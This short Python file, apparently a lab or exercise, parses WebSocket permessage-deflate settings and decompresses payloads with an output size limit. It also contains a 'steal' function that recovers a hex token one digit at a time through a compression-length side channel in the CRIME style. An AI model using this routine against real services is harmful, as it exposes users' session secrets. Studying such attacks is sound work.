def windows(answer):
    parts = [part.strip() for part in answer.split(";")]
    if parts[0] != "permessage-deflate":
        return 0, 0
    kept = []
    for side in ("server", "client"):
        bits = [part.partition("=")[2] for part in parts if part.startswith(f"{side}_max_window_bits")]
        forgets = f"{side}_no_context_takeover" in parts
        kept.append(0 if forgets else int((bits or [15])[0]))
    return tuple(kept)


# %%
def inflate(given):
    payload, limit = given
    stream = zlib.decompressobj(wbits=-15)
    message = stream.decompress(payload + b"\x00\x00\xff\xff", limit + 1)
    return message if len(message) <= limit else None


# %%
def steal(size):
    known = ""
    for _ in range(8):
        known += min("0123456789abcdef", key=lambda digit: size("token=" + known + digit))
    return known
